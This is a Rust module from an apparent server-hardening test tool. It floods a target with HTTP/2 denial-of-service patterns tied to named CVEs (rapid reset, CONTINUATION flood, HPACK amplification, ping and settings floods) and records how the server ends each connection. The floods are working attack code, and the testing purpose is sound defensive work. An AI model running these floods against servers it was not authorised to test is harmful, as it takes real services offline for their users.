//! HTTP/2: what a few bytes of a client can cost a server.

use super::{CLOSED, Siege};
use crate::siege::Failure;
use crate::siege::frames;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::time::timeout;

/// Where these come from.
const RESETTING: u8 = 20;
const HEADERS: u8 = 21;
const ASKING: u8 = 22;

/// How long what was said last may be read.
const FAREWELL: Duration = Duration::from_secs(1);

pub(super) async fn all(siege: &Siege<'_>) {
    let few = siege.strength.0;
    tokio::join!(
        // CVE-2023-44487.
        siege.repeat("HTTP/2: requests that are reset at once", few, async |_| {
            let next = |number: u32| {
                let stream = 2 * number + 1;
                let mut both = frames::http2(
                    frames::HEADERS,
                    frames::END_HEADERS | frames::END_STREAM,
                    stream,
                    &frames::request("localhost", "/login"),
                );
                both.extend(frames::http2(frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                both
            };
            flood(siege, RESETTING, &[], next, &[]).await
        }),
        // CVE-2024-27316.
        siege.repeat("HTTP/2: headers that do not end", few, async |_| {
            let first = frames::http2(frames::HEADERS, frames::END_STREAM, 1, &frames::request("localhost", "/login"));
            let next =
                |_: u32| frames::http2(frames::HTTP2_CONTINUATION, 0, 1, &frames::literal("x-more", &"a".repeat(64)));
            flood(siege, HEADERS, &first, next, &[]).await
        }),
        // CVE-2016-6581 and its like: four kilobytes that are named ten thousand times.
        siege.repeat("HTTP/2: a header that is named again and again", few, async |_| {
            let (kept, name) = frames::kept("x-large", &"a".repeat(4_000));
            let next = |number: u32| {
                let mut block = frames::request("localhost", "/login");
                block.extend(&kept);
                block.extend(std::iter::repeat_n(name, 10_000));
                let flags = frames::END_HEADERS | frames::END_STREAM;
                frames::http2(frames::HEADERS, flags, 2 * number + 1, &block)
            };
            flood(siege, HEADERS, &[], next, &[frames::HEADERS, frames::RST_STREAM]).await
        }),
        // CVE-2019-9512.
        siege.repeat("HTTP/2: pings without end", few, async |_| {
            flood(siege, ASKING, &[], |_| frames::http2(frames::HTTP2_PING, 0, 0, &[7; 8]).repeat(16), &[]).await
        }),
        // CVE-2019-9515.
        siege.repeat("HTTP/2: settings without end", few, async |_| {
            flood(siege, ASKING, &[], |_| frames::http2(frames::SETTINGS, 0, 0, &[]).repeat(16), &[]).await
        }),
    );
}

/// Sends one after the other until the server ends it, or answers with a frame of one of these kinds.
async fn flood(
    siege: &Siege<'_>,
    from: u8,
    first: &[u8],
    next: impl Fn(u32) -> Vec<u8>,
    answers: &[u8],
) -> Result<String, Failure> {
    let (reading, mut writing) = split(siege.target.http2(from).await?);
    let sending = async {
        if writing.write_all(&[&frames::http2_begin(), first].concat()).await.is_err() {
            return;
        }
        for number in 0..u32::MAX / 2 {
            if writing.write_all(&next(number)).await.is_err() {
                return;
            }
            tokio::task::yield_now().await;
        }
    };
    let mut ending = std::pin::pin!(end(reading, answers));
    tokio::select! {
        biased;
        end = &mut ending => return Ok(end),
        () = sending => {}
    }
    Ok(timeout(FAREWELL, ending).await.unwrap_or_else(|_| CLOSED.into()))
}

/// How the server ends a connection: with the code of its GOAWAY, or without a word.
async fn end(mut stream: impl AsyncRead + Unpin, answers: &[u8]) -> String {
    loop {
        let mut head = [0; 9];
        if stream.read_exact(&mut head).await.is_err() {
            return CLOSED.into();
        }
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let mut payload = vec![0; length];
        if stream.read_exact(&mut payload).await.is_err() {
            return CLOSED.into();
        }
        match head[3] {
            frames::GOAWAY if length >= 8 => {
                return format!("GOAWAY {}", u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]));
            }
            kind if answers.contains(&kind) => return "refused".into(),
            _ => {}
        }
    }
}
